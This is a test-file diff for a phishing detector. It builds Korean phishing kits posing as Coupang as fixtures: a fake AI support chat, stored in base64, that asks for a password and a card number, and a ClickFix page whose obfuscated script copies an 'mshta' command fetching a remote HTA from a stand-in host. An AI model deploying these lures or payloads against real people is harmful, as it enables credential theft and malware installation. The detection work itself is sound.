@@ -198,3 +198,64 @@ describe("page23's red team: a name only where a stylesheet or a picture's other
     );
   });
 });
+
+describe("author W's kits, played and pictured", () => {
+  const b64 = (s: string) => Buffer.from(s, 'utf8').toString('base64');
+  it('reads a name a rule draws from two attributes in one content value', () => {
+    const kit = page(
+      '본인 확인',
+      '<style>.lg::before{content:attr(data-a) attr(data-b)}</style><div class="top"><span class="lg" data-a="c" data-b="oupang"></span> 고객센터</div>' +
+        '<h2>휴대폰 본인확인</h2><p>피해보상 대상 확인을 위해 명의자 정보를 입력해 주세요.</p>' +
+        '<label>주민등록번호 <input name="r"></label>',
+    );
+    expect(verdict(kit, 'https://id-check.example/k')).toBe('suspicious-page');
+    expect(
+      pageMayConcernBrand(parse(kit.replace(/<label>.*<\/label>/, '')), 'https://id-check.example/k'),
+    ).toBe(true);
+  });
+  const chat = (lines: string[]) =>
+    page(
+      '상담',
+      '<div class="top"><b>쿠팡</b> 고객센터 상담톡</div><div id="log"></div><input id="ci" placeholder="메시지 입력"><button id="s">전송</button>' +
+        `<script>var M=${JSON.stringify(lines.map(b64))};var i=0;function bot(){if(i>=M.length)return;var d=document.createElement('div');` +
+        "d.textContent=new TextDecoder().decode(Uint8Array.from(atob(M[i++]),function(c){return c.charCodeAt(0)}));document.getElementById('log').appendChild(d)}" +
+        "document.getElementById('s').onclick=function(){setTimeout(bot,500)};setTimeout(bot,400);</script>",
+    );
+  it('reads the lines a chat keeps in base64 and decodes as it plays them', () => {
+    const r = scan(
+      chat([
+        '안녕하세요, 고객센터 AI 상담원입니다. 보상 조회를 도와드릴게요.',
+        '본인 확인을 위해 로그인 비밀번호를 입력해 주세요.',
+        '보상금을 받을 카드번호 16자리를 입력해 주세요.',
+      ]),
+      'https://cs-talk.example/c',
+    );
+    expect(r.verdict).toBe('suspicious-page');
+    expect(r.reasons.map((x) => x.code)).toContain('asks-card');
+    // a shop's bot that keeps its lines the same way and asks for an order number is a shop's bot
+    const shop = chat([
+      '안녕하세요, 고객센터 AI 상담원입니다. 무엇을 도와드릴까요?',
+      '주문번호를 입력해 주시면 배송 상황을 알려 드릴게요.',
+    ]);
+    expect(verdict(shop.replace('<b>쿠팡</b>', '<b>하루마켓</b>'), 'https://haru.example/help')).toBe(
+      'clean',
+    );
+  });
+  it('reads the steps of a ClickFix drawn as a picture of text', () => {
+    const steps = `data:image/svg+xml;base64,${b64("<svg xmlns='http://www.w3.org/2000/svg' width='420' height='36'><text x='4' y='25'>Windows 키 + R → Ctrl + V → Enter</text></svg>")}`;
+    const kit = page(
+      '보안 확인',
+      `<div class="logo">쿠팡</div><h2>접속 보안 확인</h2><p>로봇이 아닌지 확인해 주세요.</p><div id="cb">로봇이 아닙니다</div><img src="${steps}" alt="">` +
+        "<script>var c=String.fromCharCode.apply(null,[97,116,104,115,109].reverse())+' https://v.test/a.hta';document.getElementById('cb').onclick=function(){navigator.clipboard.writeText(c)}</script>",
+    );
+    expect(scan(kit, 'https://secure-gate.example/v').reasons.map((x) => x.code)).toContain(
+      'asks-run-command',
+    );
+    // an IT desk's how-to with the same picture, copying nothing, asks nothing
+    const howto = page(
+      '실행 창 여는 법',
+      `<h2>실행 창 여는 법</h2><p>쿠팡 판매자 프로그램 설치 전에 실행 창을 여는 방법입니다.</p><img src="${steps}" alt="">`,
+    );
+    expect(verdict(howto, 'https://it-help.example/run')).toBe('clean');
+  });
+});
